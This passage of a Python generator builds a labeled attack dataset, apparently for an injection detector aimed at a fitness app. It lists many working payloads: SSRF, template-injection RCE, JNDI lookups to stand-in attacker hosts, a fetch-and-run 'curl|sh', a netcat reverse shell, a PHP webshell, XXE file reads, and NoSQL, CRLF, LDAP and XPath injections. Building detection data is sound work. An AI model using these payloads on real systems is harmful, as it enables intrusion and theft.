    ("webhook-internal", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook-internal", "http://127.0.0.1:2375/containers/json"),
    ("import-internal", "https://10.0.0.1:10250/pods"),
    ("webhook-loopback", "http://localhost/server-status"),
    ("report-htmlrender", "<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=800 height=600></iframe>"),
    ("import-jarscheme", "jar:http://10.0.0.8:8081/repository/internal/plans.jar!/META-INF/MANIFEST.MF"),
    ("import-ftp", "ftp://10.0.0.5/backups/"),
    ("calendar-ldap", "ldap://127.0.0.1:389/dc=fitapp,dc=example?userPassword?sub"),
    ("webhook-dnsloopback", "http://localhost.attacker.example:9000/minio/admin/v3/info"),
    ("avatar-loopback+enclosed", "http://①②⑦.⓪.⓪.①:8080/"),
    ("webhook-metadata+urlenc", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("import-metadata+ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("import-loopback+octalip", "http://0177.0.0.1:5000/debug"),
    ("import-trailingdot", "http://localhost.:8080/actuator/env"),
    ("webhook-internal", "http://127.0.0.1:8080/actuator/heapdump"),
    ("avatar-netdoc", "netdoc:///etc/passwd"),
    ("webhook-internal", "http://10.0.3.17:9200/_search?q=*"),
    ("import-parserconfusion", "http://127.0.0.1\\@fitapp.example/route.gpx"),
    ("calendar-metadata", "webcal://169.254.169.254/latest/meta-data/"),
    ("avatar-svgimage", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://169.254.169.254/latest/meta-data/\"/></svg>"),
    ("webhook-loopback+zero", "http://0/"),
    ("import-loopback+ipv4in6", "http://[0:0:0:0:0:ffff:127.0.0.1]:3000/"),
    ("import-gpxurl", "https://fitapp.example/routes/import?src=http://127.0.0.1:8001/api/v1/secrets"),
    ("report-htmlrender", "<link rel=\"stylesheet\" href=\"http://10.0.0.12:8500/v1/kv/?recurse\">"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-loopback", "http://localhost:22/"),
    ("plain-gopher", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cceo%40fitapp.example%3E%0D%0A"),
    ("plain-filescheme", "file:///proc/self/environ"),
    ("plain-loopback+decimalip", "http://2130706433/"),
]

SSRF_CTX = ["webhook", "import", "avatar", "calendar"]
SSRF_HOSTS = [("metadata", "169.254.169.254", ["/latest/meta-data/", "/latest/meta-data/iam/info",
                                               "/latest/dynamic/instance-identity/document"]),
              ("loopback", "127.0.0.1", [":6379/", ":8080/admin", ":5984/_all_dbs", ":9000/"]),
              ("internal", "10.0.0.10", [":8500/v1/kv/?recurse", ":2379/v2/keys/?recursive=true", ":15672/api/users"])]


def tpl_ssrf(rng):
    ctx = rng.choice(SSRF_CTX)
    tech, host, paths = rng.choice(SSRF_HOSTS)
    return f"{ctx}-{tech}", f"http://{host}{rng.choice(paths)}"


# ---------------------------------------------------------------------------
# code: SSTI, expression languages, deserialization, XXE, Log4Shell-style
# lookups, prototype pollution, CSV formulas, server-side eval
# ---------------------------------------------------------------------------
PHP_OBJ = 'O:12:"ExportWriter":2:{s:4:"path";s:23:"/var/www/html/shell.php";s:4:"data";s:28:"<?php system($_GET[\'c\']); ?>";}'

CODE = [
    ("coach-jinja2", "Great week {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("challenge-jinja2", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("plan-jinja2", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("post-jinja2+hexescape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("email-jinja2", "Hi {{ config.items() }}, your weekly summary is ready"),
    ("coach-twig", "{{ ['id']|filter('system') }}"),
    ("challenge-twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("plan-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("email-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())#set($p=$rt.exec(\"id\"))$p.waitFor()"),
    ("profile-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("booking-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.70/x')}"),
    ("log-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("email-erb", "Weekly recap <%= `id` %>"),
    ("post-erb", "<%= system('cat /etc/passwd') %>"),
    ("challenge-smarty", "Kilo Club {system('id')}"),
    ("coach-mako", "${__import__('os').popen('id').read()}"),
    ("email-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("post-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("plan-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("email-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("profile-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
    ("coach-djangotpl", "Nice PR!! {% debug %}"),
    ("profile-jspel", "${applicationScope}"),
    ("log-jspel", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass()).invoke(\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null),\"id\")}"),
    ("coach-mvel", "@{Runtime.getRuntime().exec('id')}"),
    ("sync-jndi", "${jndi:ldap://203.0.113.71:1389/fit}"),
    ("device-jndi+nestedlookup", "Forerunner ${${lower:j}${lower:n}d${upper:i}:ldap://x.attacker.example/a}"),
    ("post-jndi", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.k.attacker.example}"),
    ("log-jndi+defaultlookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.72/o}"),
    ("booking-jndi", "Spin 07:00 ${jndi:ldap://attacker.example/${sys:user.name}}"),
    ("useragent-jndi+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.73%2Fx%7D"),
    ("import-yaml", "!!python/object/apply:os.system [\"curl http://203.0.113.74/p|sh\"]"),
    ("plan-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("cookie-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("export-phpobject", PHP_OBJ),
    ("sync-nodeserialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("import-dotnettype", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\temp\\\\o.txt\"]}}"),
    ("import-jacksontyping", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.76:1389/o\",\"autoCommit\":true}]"),
    ("plan-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.76:1099/o\",\"autoCommit\":true}"),
    ("gpx-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY trk SYSTEM \"file:///etc/passwd\">]>\n<gpx version=\"1.1\" creator=\"FitApp\"><metadata><name>&trk;</name></metadata></gpx>"),
    ("tcx-xxeoob", "<?xml version=\"1.0\"?>\n<!DOCTYPE TrainingCenterDatabase [<!ENTITY % d SYSTEM \"http://203.0.113.77/x.dtd\"> %d;]>\n<TrainingCenterDatabase><Activities/></TrainingCenterDatabase>"),
    ("gpx-xxessrf", "<!DOCTYPE gpx [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><gpx><trk><name>&m;</name></trk></gpx>"),
    ("gpx-xinclude", "<trk xmlns:xi=\"http://www.w3.org/2001/XInclude\"><name><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></name></trk>"),
    ("gpx-xxephpfilter", "<!DOCTYPE g [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><gpx><wpt lat=\"0\" lon=\"0\"><name>&s;</name></wpt></gpx>"),
    ("gpx-entityexpansion", "<!DOCTYPE gpx [<!ENTITY a \"kmkm\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;\">]><gpx><name>&g;</name></gpx>"),
    ("profile-protopollution", "{\"displayName\":\"marta\",\"__proto__\":{\"isAdmin\":true}}"),
    ("settings-protopollution", "{\"units\":\"metric\",\"constructor\":{\"prototype\":{\"role\":\"coach\"}}}"),
    ("query-protopollution", "__proto__[isAdmin]=true"),
    ("query-protopollution", "plan[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("challenge-csvformula", "=HYPERLINK(\"https://attacker.example/l?d=\"&A2&B2,\"Click for your medal 🏅\")"),
    ("leaderboard-csvformula", "=cmd|' /C powershell -c iwr http://203.0.113.78/a.ps1|iex'!A0"),
    ("post-csvformula", "+SUM(1+1)*cmd|' /C calc'!A0"),
    ("meal-csvformula", "@SUM(1+9)*cmd|' /C notepad'!A1"),
    ("log-csvformula", "=WEBSERVICE(\"http://203.0.113.79/x?\"&ENCODEURL(C3))"),
    ("team-csvformula", "-2+3+cmd|' /C calc'!A0"),
    ("challenge-csvformula", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:C9),\"//a\")"),
    ("post-ssi", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("post-esi", "Parkrun #250 <esi:include src=\"http://203.0.113.80/esi.html\"/>"),
    ("meal-pyeval", "(2300 - 160*4 - 70*9) / 4 + __import__('os').system('curl 203.0.113.81|sh')"),
    ("plan-jseval", "1;require('child_process').exec('nc 203.0.113.82 4444 -e /bin/sh')"),
    ("meal-pyeval", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='catch_warnings'][0]()._module.__builtins__['__import__']('os').popen('id').read()"),
    ("plan-phpeval", "');system('id');//"),
    ("avatar-webshell", "GIF89a<?php system($_REQUEST['x']); ?>"),
    ("log-rubyinterp", "#{`id`}"),
    ("coach-jinja2+urlenc", "%7B%7Bcycler.__init__.__globals__.os.popen(%27id%27).read()%7D%7D"),
    ("post-jinja2+unicode", "{{ lipsum.__globals__['\\u006fs'].popen('id').read() }}"),
    ("interval-spel", "10x(400m @ ${T(java.lang.Runtime).getRuntime().exec('id')} / 200m jog)"),
    ("plain-jinja2", "{{ lipsum.__globals__.os.popen('id').read() }}"),
    ("plain-jndi", "${jndi:ldap://attacker.example:1389/a}"),
    ("plain-xxe", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/shadow\">]><r>&x;</r>"),
    ("plain-protopollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csvformula", "=cmd|'/C calc'!A0"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-yaml", "!!python/object/apply:subprocess.check_output [[\"id\"]]"),
]

CODE_PREFIXES = [("coach", "Great week"), ("challenge", "March Madness"), ("booking", "Spin 07:00"),
                 ("sync", "HRV 48 ms"), ("challenge", "Sunrise Squad"), ("coach", "Nice PR!!"),
                 ("post", "Parkrun #250 today 🎉")]
CODE_TAILS = [
    ("jndi", "${jndi:ldap://203.0.113.83:1389/Exploit}"),
    ("jndi", "${jndi:rmi://jndi.attacker.example/obj}"),
    ("jinja2", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("twig", "{{ ['cat /etc/passwd']|filter('system') }}"),
    ("spel", "${T(java.lang.Runtime).getRuntime().exec('curl http://198.51.100.9/x')}"),
    ("freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
]


def tpl_code(rng):
    tech, tail = rng.choice(CODE_TAILS)
    ctx, prefix = rng.choice(CODE_PREFIXES)
    return f"{ctx}-{tech}", f"{prefix} {tail}"


# ---------------------------------------------------------------------------
# nosqli: JSON bodies / query strings handed to a MongoDB-style store
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-operator", "{\"email\": \"coach@fitapp.example\", \"password\": {\"$ne\": null}}"),
    ("login-bracket", "email=coach%40fitapp.example&password[$ne]=x"),
    ("search-regex", "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$regex\": \"^a\"}}"),
    ("leaderboard-operator", "{\"score\": {\"$gt\": \"\"}}"),
    ("challenge-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-wherebreak", "'; return true; var x='"),
    ("search-wherebreak", "' || this.password.match(/^a/) || '"),
    ("filter-or", "{\"$or\": [{\"visibility\": \"public\"}, {\"visibility\": {\"$exists\": true}}]}"),
    ("profile-in", "{\"role\": {\"$in\": [\"admin\", \"coach\"]}}"),
    ("plan-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$resetToken\"}, 0]}}"),
    ("report-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"coachId\", \"foreignField\": \"_id\", \"as\": \"c\"}}]"),
    ("report-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000); return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("login-bracket", "username[$regex]=.*&password[$regex]=^p"),
    ("shop-bracket", "price[$gt]=0&coachId[$ne]="),
    ("profile-jsonbreak", "marta\", \"$or\": [{}, {\"a\":\"a"),
    ("sync-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password\"]}"),
    ("filter-nin", "{\"status\": {\"$nin\": []}}"),
    ("booking-where", "{\"$where\": \"this.email.length > 0 && (function(){var d=new Date(); do{c=new Date();}while(c-d<4000); return true;})()\"}"),
    ("filter-bracket", "filter[$where]=sleep(3000)"),
    ("login-bracket+urlenc", "email=coach%40fitapp.example&password%5B%24ne%5D=1"),
    ("search-where+unicode", "{\"$where\": \"this.r\\u006fle == 'admin'\"}"),
    ("login-exists", "{\"email\": {\"$exists\": true}, \"password\": {\"$exists\": true}}"),
    ("plain-operator", "{\"$ne\": 1}"),
    ("plain-regex", "{\"$regex\": \".*\"}"),
]

NOSQL_FIELDS = ["email", "username", "coachId", "challengeId", "deviceId", "planId"]
NOSQL_OPS = [("operator", '{{"{f}": {{"$ne": "x"}}}}'), ("regex", '{{"{f}": {{"$regex": "^.{{0,}}$"}}}}'),
             ("bracket", "{f}[$gt]="), ("bracket", "{f}[$exists]=true")]


def tpl_nosqli(rng):
    tech, fmt = rng.choice(NOSQL_OPS)
    return f"{rng.choice(['login', 'search', 'filter', 'report'])}-{tech}", fmt.format(f=rng.choice(NOSQL_FIELDS))


# ---------------------------------------------------------------------------
# crlf: values written into HTTP headers (redirects, Content-Disposition),
# log lines, mail headers, SMTP, calendar files
# ---------------------------------------------------------------------------
CRLF = [
    ("redirect-setcookie+urlenc", "/dashboard%0d%0aSet-Cookie:%20session=attacker-fixed-8841"),
    ("redirect-splitting+urlenc", "/plans%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
    ("log-forge", "5x5 @ 100kg\n2024-03-02T07:15:33Z INFO auth user=admin action=login result=success ip=10.0.0.1"),
    ("log-forge", "tempo run\r2024-03-02 07:16:00 WARN payment refund approved order=91823 amount=499.00"),
    ("email-bcc", "Marta Runs\nBcc: everyone@fitapp.example, victim@fitapp.example"),
    ("email-body", "Weekly summary\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/login\">Re-verify your account</a>"),
    ("email-replyto", "coach@fitapp.example\r\nReply-To: billing@attacker.example"),
    ("header-location+urlenc", "https://fitapp.example/%0D%0ALocation:%20https://attacker.example/"),
    ("header-setcookie+utf8trick", "/home%E5%98%8A%E5%98%8DSet-Cookie:%20sid=x"),
    ("log-ansi", "Nice run\u001b[2K\u001b[1A\u001b[2K2024-03-02 ERROR disk full, purge exports now"),
    ("log-jsonforge", "marta\"}\n{\"level\":\"info\",\"user\":\"admin\",\"event\":\"role_granted\"}"),
    ("header-filename", "report.pdf\"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("smtp-smuggle", "See you at 7!\r\n.\r\nMAIL FROM:<coach@fitapp.example>\r\nRCPT TO:<victim@attacker.example>\r\nDATA\r\nSubject: password reset\r\n\r\nhttps://attacker.example/reset\r\n.\r\n"),
    ("log-syslog", "login ok\n<34>Mar  2 07:15:33 fitapp sshd[2211]: Accepted password for root from 203.0.113.90"),
    ("header-setcookie+doubleurl", "en%250d%250aSet-Cookie:%2520admin=1"),
    ("header-lf+urlenc", "/challenge/12%0aX-Forwarded-Host:%20attacker.example"),
    ("export-csvrow", "Team Quads\",\"1\",\"999999\"\n\"Team Glute\",\"2\",\"0"),
    ("log-lineseparator", "note\u20282024-03-02 INFO admin login from 10.0.0.2 ok"),
    ("email-cc+urlenc", "runner@fitapp.example%0ACc:%20all-members@fitapp.example"),
    ("redirect-body+urlenc", "/x%0d%0a%0d%0a%3Chtml%3ESession%20expired,%20%3Ca%20href=//attacker.example%3Esign%20in%3C/a%3E"),
    ("log-stackforge", "knee pain 3/10\n    at com.fitapp.auth.AdminFilter.doFilter(AdminFilter.java:42)\nCaused by: java.lang.SecurityException: admin override accepted for user=marta"),
    ("webhook-headerinject", "Bearer placeholder-token-0000\r\nX-Admin: true"),
    ("calendar-icsinject", "Spin 07:00\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Free PT session - confirm at https://attacker.example/pt\r\nDTSTART:20250301T070000Z"),
    ("log-forge+urlenc", "squat%0a2024-03-02%2007:20:01%20INFO%20user=admin%20password_reset=ok"),
    ("header-obsfold", "fit\r\n\tX-Folded: yes"),
    ("audit-forge", "Booking #A-20931 cancelled\r\n2024-03-02 08:00:01 AUDIT refund=approved by=finance.admin amount=1200.00 EUR"),
    ("plain-crlf+urlenc", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-crlf", "\r\nX-Injected: 1"),
]

CRLF_PREFIXES = [("log", "5x5 @ 100kg"), ("log", "HRV 48 ms"), ("redirect", "/dashboard"),
                 ("redirect", "/challenges/42"), ("email", "Marta Runs")]
CRLF_TAILS = [("forge", "\n2024-03-02 07:30:00 INFO user=admin role=superuser granted=true"),
              ("setcookie", "\r\nSet-Cookie: remember_me=forged"),
              ("bcc", "\r\nBcc: list@attacker.example"),
              ("headerinject", "\r\nX-Accel-Redirect: /internal/exports/")]


def tpl_crlf(rng):
    ctx, pre = rng.choice(CRLF_PREFIXES)
    tech, tail = rng.choice(CRLF_TAILS)
    return f"{ctx}-{tech}", pre + tail


# ---------------------------------------------------------------------------
# ldap-xpath: member directory (LDAP filters) and plan/route XML (XPath)
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("login-ldapwildcard", "*)(uid=*))(|(uid=*"),
    ("login-ldapand", "admin)(&)"),
    ("directory-ldapattr", "*)(userPassword=a*"),
    ("directory-ldapor", "*)(|(objectClass=*)"),
    ("coachsearch-ldapgroup", "*)(memberOf=cn=admins,ou=groups,dc=fitapp,dc=example"),
    ("login-ldapwildcard+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("directory-ldapattr", "x*)(description=*token*"),
    ("login-xpathor", "' or '1'='1"),
    ("login-xpathor", "admin' or '1'='1' or 'a'='a"),
    ("plan-xpathunion", "'] | //user/password | //*['"),
    ("plan-xpathcount", "' or count(/*[1]/*)>3 or '"),
    ("plan-xpathblind", "x' or substring(name(/*[1]),1,1)='f' or 'x'='y"),
    ("export-xpathdoc", "' or doc(concat('http://203.0.113.95/',//user[1]/password)) or '"),
    ("search-xpathcontains", "\") or contains(//member[1]/apiKey,\"a\") or (\""),
    ("gpx-xpathnumeric", "1 or 1=1"),
    ("plan-xpathlength", "' or string-length(//coach[1]/password)=12 or '"),
    ("directory-ldapblind", "marta)(mail=m*"),
    ("route-xpathbreak", "Lakeside 10k'] | //trkpt[@lat] | //*['"),
    ("plain-xpath", "' or 1=1 or ''='"),
    ("plain-ldap", "*)(objectClass=*"),
    ("plain-xpath", "x' or name()='username' or 'x'='y"),
]

LDAP_NAMES = ["marta", "jonas", "coach.mia", "aiko", "kevin.ob", "lena"]
LDAP_TAILS = [("ldapwildcard", "*)(uid=*))(|(uid=*"), ("ldapattr", "*)(mail=*@fitapp.example"),
              ("ldapblind", ")(memberOf=cn=admins,ou=groups,dc=fitapp,dc=example"),
              ("ldapattr", "*)(employeeType=admin")]


def tpl_ldap(rng):
    tech, tail = rng.choice(LDAP_TAILS)
    return f"{rng.choice(['directory', 'coachsearch'])}-{tech}", rng.choice(LDAP_NAMES) + tail


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli),
    ("xss", XSS, tpl_xss),
    ("cmdi", CMDI, tpl_cmdi),
    ("traversal", TRAVERSAL, tpl_traversal),
    ("ssrf", SSRF, tpl_ssrf),
    ("code", CODE, tpl_code),
    ("nosqli", NOSQLI, tpl_nosqli),
    ("crlf", CRLF, tpl_crlf),
    ("ldap-xpath", LDAP_XPATH, tpl_ldap),
]


def main():
    rng = random.Random(SEED)
    seen = set()  # membership checks only, never iterated
    benign_path = Path(__file__).with_name("benign.jsonl")
    benign = set()
    if benign_path.exists():
        with benign_path.open(encoding="utf-8") as fh:
            for line in fh:
                benign.add(json.loads(line)["value"])
    rows = []
    stats = []
    for cat, literals, tpl in CATEGORIES:
        target = TARGETS[cat]
        values = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            values.append((cls, v))
        n_lit = len(values)
        if n_lit > target:
            raise SystemExit(f"{cat}: {n_lit} literals > target {target}")
        tries = 0
        while len(values) < target:
            tries += 1
            if tries > 20000:
                raise SystemExit(f"{cat}: template cannot produce enough unique values")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            values.append((cls, v))
        for cls, v in values:
            if not isinstance(v, str) or not v or len(v) > MAX_LEN:
                raise SystemExit(f"bad value in {cat}: {v!r}")
            if v in benign:
                raise SystemExit(f"value also in benign.jsonl: {v!r}")
            ctx, _, tech = cls.partition("-")
            if not ctx or not tech:
                raise SystemExit(f"bad class {cls!r}")
            rows.append({"category": cat, "class": cls, "label": "attack", "value": v})
        stats.append((cat, len(values), n_lit))

    out = Path(__file__).with_name("attacks.jsonl")
    with out.open("w", encoding="utf-8", newline="\n") as fh:
        for i, row in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": row["category"], "class": row["class"],
                   "label": row["label"], "value": row["value"]}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for cat, n, n_lit in stats:
        total_lit += n_lit
        print(f"{cat:12s} {n:4d}  literals {n_lit:3d} ({100.0 * n_lit / n:.0f}%)")
    plain = sum(1 for r in rows if r["class"].startswith("plain-"))
    enc = sum(1 for r in rows if "+" in r["class"])
    print(f"{'total':12s} {len(rows):4d}  literals {total_lit:3d} ({100.0 * total_lit / len(rows):.0f}%)"
          f"  plain {plain}  encoded {enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
